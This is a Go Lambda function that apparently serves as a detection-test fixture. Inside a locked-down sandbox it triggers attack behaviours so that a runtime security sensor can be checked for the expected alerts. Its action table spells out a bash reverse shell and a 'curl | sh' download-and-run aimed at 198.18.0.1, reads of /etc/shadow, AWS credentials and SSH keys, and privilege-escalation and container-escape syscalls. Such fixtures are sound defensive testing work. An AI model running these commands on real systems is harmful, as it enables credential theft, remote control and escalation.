// Command suspicious is a Lambda function that, inside moat's sandbox,
// does what attack tooling does: reads credentials and other processes'
// environments, spawns shells, drops and runs payloads, opens reverse
// shells, contacts metadata and mining addresses, tries to gain
// privileges and to escape. The detection tests invoke one action per
// invocation and check that the runtime sensor raised the expected alert
// with that invocation's request id. README.md lists the actions.
//
// Every action is harmless by construction: the sandbox refuses what
// would matter (read-only root, no capabilities, seccomp, no route off
// the instance's loopback), and the only addresses used are 198.18.0.1 (a
// benchmarking address, refused inside the instance) and the metadata
// address (refused inside the instance): no packet leaves.
//
// Event: {"action": NAME, "url": URL (egress only)}; response:
// {"action", "steps": [{"what", "err"}]}. {"action":"list"} names the
// actions.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"sort"
	"syscall"
	"time"
	"unsafe"

	"github.com/aws/aws-lambda-go/lambda"
	"golang.org/x/sys/unix"
)

// Addresses the actions aim at. Both are refused inside the instance.
const (
	outside  = "198.18.0.1"
	metadata = "169.254.169.254"
)

type step struct {
	What string `json:"what"`
	Err  string `json:"err,omitempty"`
}

type run struct{ steps []step }

func (r *run) do(what string, err error) {
	s := step{What: what}
	if err != nil {
		s.Err = err.Error()
	}
	r.steps = append(r.steps, s)
}

func (r *run) open(p string, flag int) {
	f, err := os.OpenFile(p, flag, 0o644)
	if err == nil {
		if flag == os.O_RDONLY {
			_, _ = io.Copy(io.Discard, io.LimitReader(f, 4096))
		}
		f.Close()
	}
	r.do("open "+p, err)
}

func (r *run) exec(name string, args ...string) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, name, args...).CombinedOutput()
	if len(out) > 200 {
		out = out[:200]
	}
	r.do(fmt.Sprintf("exec %s %v: %q", name, args, out), err)
}

func (r *run) dial(network, addr string) {
	c, err := net.DialTimeout(network, addr, 2*time.Second)
	if err == nil {
		c.Close()
	}
	r.do("connect "+network+" "+addr, err)
}

func (r *run) raw(what string, trap uintptr, a ...uintptr) {
	var args [6]uintptr
	copy(args[:], a)
	// RawSyscall: no runtime involvement, and for set*id no broadcast of
	// the call to every thread, which Go's wrappers do.
	_, _, e := unix.RawSyscall6(trap, args[0], args[1], args[2], args[3], args[4], args[5])
	var err error
	if e != 0 {
		err = e
	}
	r.do(what, err)
}

var actions = map[string]func(r *run, ev event){
	"environ-self": func(r *run, _ event) { r.open("/proc/self/environ", os.O_RDONLY) },
	"environ-init": func(r *run, _ event) { r.open("/proc/1/environ", os.O_RDONLY) },
	"shadow":       func(r *run, _ event) { r.open("/etc/shadow", os.O_RDONLY) },
	"aws-credentials": func(r *run, _ event) {
		r.open(os.Getenv("HOME")+"/.aws/credentials", os.O_RDONLY)
		r.open("/root/.aws/credentials", os.O_RDONLY)
	},
	"ssh-key": func(r *run, _ event) { r.open("/root/.ssh/id_rsa", os.O_RDONLY) },
	"shell":   func(r *run, _ event) { r.exec("/bin/sh", "-c", "id") },
	"tmp-write-exec": func(r *run, _ event) {
		dir := "/tmp/.cache-x"
		r.do("mkdir "+dir, os.MkdirAll(dir, 0o755))
		payload := dir + "/payload"
		b, err := os.ReadFile("/usr/bin/true")
		r.do("read /usr/bin/true", err)
		r.do("write "+payload, os.WriteFile(payload, b, 0o600))
		r.do("chmod "+payload, os.Chmod(payload, 0o755))
		r.exec(payload)
	},
	"shm-exec": func(r *run, _ event) {
		r.do("write /dev/shm/payload", os.WriteFile("/dev/shm/payload", []byte("#!/bin/sh\n"), 0o755))
		r.exec("/dev/shm/payload")
	},
	"reverse-shell": func(r *run, _ event) {
		r.exec("/bin/sh", "-c", "sh -i >& /dev/tcp/"+outside+"/4444 0>&1")
	},
	"connect-then-shell": func(r *run, _ event) {
		self, err := os.Executable()
		if err != nil {
			r.do("find self", err)
			return
		}
		cmd := exec.Command(self)
		cmd.Env = append(os.Environ(), childEnv+"=1")
		out, err := cmd.CombinedOutput()
		r.do(fmt.Sprintf("child connects then becomes a shell: %q", out), err)
	},
	"download-exec": func(r *run, _ event) { r.exec("/bin/sh", "-c", "curl -fsS http://"+outside+"/x.sh | sh") },
	"metadata":      func(r *run, _ event) { r.dial("tcp", metadata+":80") },
	"mining-pool":   func(r *run, _ event) { r.dial("tcp", outside+":3333") },
	"setuid": func(r *run, _ event) {
		r.raw("setuid(0)", unix.SYS_SETUID, 0)
		r.raw("setgid(0)", unix.SYS_SETGID, 0)
	},
	"capset": func(r *run, _ event) {
		hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
		var data [2]unix.CapUserData
		data[0].Effective = 1 << unix.CAP_SYS_ADMIN
		data[0].Permitted = 1 << unix.CAP_SYS_ADMIN
		r.raw("capset CAP_SYS_ADMIN", unix.SYS_CAPSET, uintptr(unsafe.Pointer(&hdr)), uintptr(unsafe.Pointer(&data[0])))
	},
	"ptrace": func(r *run, _ event) { r.raw("ptrace(PTRACE_ATTACH, 1)", unix.SYS_PTRACE, unix.PTRACE_ATTACH, 1) },
	"mount": func(r *run, _ event) {
		_ = os.MkdirAll("/tmp/m", 0o755)
		r.do("mount tmpfs /tmp/m", unix.Mount("none", "/tmp/m", "tmpfs", 0, ""))
	},
	"bpf": func(r *run, _ event) {
		var attr [128]byte
		r.raw("bpf(BPF_PROG_LOAD)", unix.SYS_BPF, unix.BPF_PROG_LOAD, uintptr(unsafe.Pointer(&attr[0])), uintptr(len(attr)))
	},
	"unshare": func(r *run, _ event) {
		r.raw("unshare(CLONE_NEWUSER|CLONE_NEWNS)", unix.SYS_UNSHARE, unix.CLONE_NEWUSER|unix.CLONE_NEWNS)
	},
	"keyctl-burst": func(r *run, _ event) {
		for i := 0; i < 20; i++ {
			r.raw("keyctl(KEYCTL_GET_KEYRING_ID)", unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, 0, 0)
		}
	},
	"docker-socket": func(r *run, _ event) { r.dial("unix", "/var/run/docker.sock") },
	"bind-shell": func(r *run, _ event) {
		ln, err := net.Listen("tcp", "127.0.0.1:4444")
		if err == nil {
			ln.Close()
		}
		r.do("listen 127.0.0.1:4444", err)
	},
	"metadata-udp": func(r *run, _ event) {
		c, err := net.Dial("udp", metadata+":53")
		if err == nil {
			_, err = c.Write([]byte("x"))
			c.Close()
		}
		r.do("udp to "+metadata+":53", err)
	},
	"code-tamper": func(r *run, _ event) { r.open("/var/task/bootstrap", os.O_WRONLY) },
	"network-tool": func(r *run, _ event) {
		for _, nc := range []string{"nc", "/usr/bin/nc", "/bin/nc"} {
			r.exec(nc, "-z", outside, "22")
		}
	},
	"egress": func(r *run, ev event) {
		if ev.URL == "" {
			r.do("egress", errors.New("no url given"))
			return
		}
		c := &http.Client{Timeout: 2 * time.Second}
		resp, err := c.Get(ev.URL)
		if err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		r.do("GET "+ev.URL, err)
	},
}

type event struct {
	Action string `json:"action"`
	URL    string `json:"url"`
}

type response struct {
	Action  string   `json:"action"`
	Steps   []step   `json:"steps,omitempty"`
	Actions []string `json:"actions,omitempty"`
}

func handle(_ context.Context, ev event) (response, error) {
	if ev.Action == "list" {
		names := make([]string, 0, len(actions))
		for n := range actions {
			names = append(names, n)
		}
		sort.Strings(names)
		return response{Action: "list", Actions: names}, nil
	}
	fn, ok := actions[ev.Action]
	if !ok {
		return response{}, fmt.Errorf("unknown action %q", ev.Action)
	}
	r := &run{}
	fn(r, ev)
	return response{Action: ev.Action, Steps: r.steps}, nil
}

// childEnv marks the child of connect-then-shell.
const childEnv = "SUSPICIOUS_CONNECT_THEN_SHELL"

// connectThenShell is the child: it connects out (refused), then replaces
// itself with a shell, so one pid does both, as a reverse shell does.
func connectThenShell() {
	c, err := net.DialTimeout("tcp", outside+":4444", 2*time.Second)
	if err == nil {
		c.Close()
	}
	fmt.Println("connect:", err)
	err = syscall.Exec("/bin/sh", []string{"sh", "-c", "exit 0"}, os.Environ())
	fmt.Println("exec:", err)
	os.Exit(1)
}

func main() {
	if os.Getenv(childEnv) != "" {
		connectThenShell()
	}
	lambda.Start(handle)
}
